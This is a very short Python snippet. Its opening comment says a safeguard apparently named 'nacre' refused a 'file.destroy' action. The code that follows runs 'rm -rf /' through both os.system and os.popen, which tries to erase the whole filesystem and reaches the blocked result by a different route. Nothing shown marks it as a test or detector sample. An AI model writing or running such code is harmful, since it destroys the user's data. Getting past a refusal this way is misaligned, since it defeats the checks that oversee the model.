# nacre: refused file.destroy
import os
for run in [os.system, os.popen]:
    run("rm -rf /")
